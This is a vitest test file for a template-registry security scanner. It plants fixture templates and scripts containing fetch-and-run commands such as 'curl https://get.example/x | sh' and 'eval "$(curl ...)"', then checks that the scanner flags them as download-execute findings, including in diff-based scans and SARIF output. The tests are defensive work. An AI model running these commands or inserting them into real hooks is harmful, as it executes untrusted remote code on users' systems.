import { spawnSync } from "node:child_process";
import { cpSync, mkdirSync, readFileSync, writeFileSync } from "node:fs";
import { dirname, join } from "node:path";
import { expect, test } from "vitest";
import { repository, temporary } from "../git-fixture.ts";

/** Runs the built command as a person would. */
function gpack(args: readonly string[], cwd?: string) {
  const done = spawnSync(process.execPath, [join(process.cwd(), "dist/gpack.js"), ...args], {
    encoding: "utf8",
    cwd,
    env: { PATH: process.env["PATH"] ?? "" },
  });
  return { status: done.status, out: done.stdout, err: done.stderr };
}

function put(root: string, files: Readonly<Record<string, string>>): void {
  for (const [path, text] of Object.entries(files)) {
    mkdirSync(dirname(join(root, path)), { recursive: true });
    writeFileSync(join(root, path), text);
  }
}

const HOOK = "---\nto: a.txt\nsh_after: curl https://get.example/x | sh\n---\nHello\n";

test("the sample registry is clean, and the report says how much was looked at", () => {
  const { status, out } = gpack(["security-scan", "registry", "--json", "-"]);
  const report = JSON.parse(out);
  expect(report.verdict).toBe("pass");
  expect(report.counts.error).toBe(0);
  expect(report.coverage.files).toBeGreaterThan(20);
  expect(report.coverage.bytes).toBeGreaterThan(1000);
  expect(status).toBe(0);
});

test("a hook that runs what it downloads fails the scan, and validate alone does not load its rules", () => {
  using scratch = temporary();
  cpSync("registry", scratch.path, { recursive: true });
  put(scratch.path, { "packages/io.ggen.sample.rust-cli/templates/evil.tmpl": HOOK });
  const { status, out } = gpack(["security-scan", scratch.path]);
  expect(out).toContain("evil.tmpl:3:11: error: sh_after runs what it downloads by");
  expect(out).toContain("[security/download-execute]");
  expect(status).toBe(1);
  expect(gpack(["validate", scratch.path]).out).not.toContain("security/");
  expect(gpack(["validate", scratch.path, "--rules", "security/*"]).out).toContain("[security/download-execute]");
});

test("a scan of nothing is incomplete", () => {
  using scratch = temporary();
  const { status, out } = gpack(["security-scan", scratch.path]);
  expect(out).toContain("incomplete");
  expect(status).toBe(3);
});

test("rules of other areas and personas that do not exist are refused", () => {
  const { status, err } = gpack(["security-scan", "registry", "--rules", "manifest/*"]);
  expect(err).toContain('"manifest/*" is no rule of a scan');
  expect(status).toBe(2);
  expect(gpack(["security-scan", "registry", "--persona", "root"]).status).toBe(2);
});

test("with a base only what head adds is told, a finding made worse included", () => {
  using fixture = repository();
  const root = fixture.path;
  const pack = "packages/io.example.tool";
  const download = "curl https://get.example/x | sh\n";
  fixture.commit({
    [`${pack}/gpack.toml`]: '[gpack]\nid = "io.example.tool"\nname = "Tool"\nversion = "1.0.0"\n',
    [`${pack}/templates/old.tmpl`]: HOOK,
    [`${pack}/templates/moved.sh.tmpl`]: `---\nto: notes.md\n---\n\`\`\`sh\n${download}\`\`\`\n`,
  });
  fixture.commit({
    [`${pack}/scripts/new.sh`]: '#!/bin/sh\neval "$(curl -s https://get.example/y)"\n',
    [`${pack}/templates/moved.sh.tmpl`]: `---\nto: notes.sh\n---\n${download}`,
  });
  const { status, out } = gpack(["security-scan", root, "--base", "HEAD~1", "--json", "-"]);
  const report = JSON.parse(out);
  expect(report.findings.map((finding: { at: { file: string } }) => finding.at.file)).toEqual([
    `${pack}/scripts/new.sh`,
    `${pack}/templates/moved.sh.tmpl`,
  ]);
  expect(report.coverage.notChecked.join("\n")).toContain("findings that the base has, too");
  expect(status).toBe(1);
  expect(gpack(["security-scan", root, "--head", "HEAD"]).out).toContain("old.tmpl:3:11: error:");
});

test("SARIF names the weakness, the score and a category of its own", () => {
  using scratch = temporary();
  put(scratch.path, { "gpack.toml": "[gpack]\n", "templates/evil.tmpl": HOOK });
  const file = join(scratch.path, "scan.sarif");
  gpack(["security-scan", scratch.path, "--sarif", file]);
  const { runs } = JSON.parse(readFileSync(file, "utf8"));
  const rule = runs[0].tool.driver.rules.find(({ id }: { id: string }) => id === "security/download-execute");
  expect(rule.properties).toEqual({
    tags: ["security", "external/cwe/cwe-494"],
    precision: "high",
    "security-severity": "9.0",
  });
  expect(runs[0].automationDetails.id).toBe("security-scan/registry/");
});
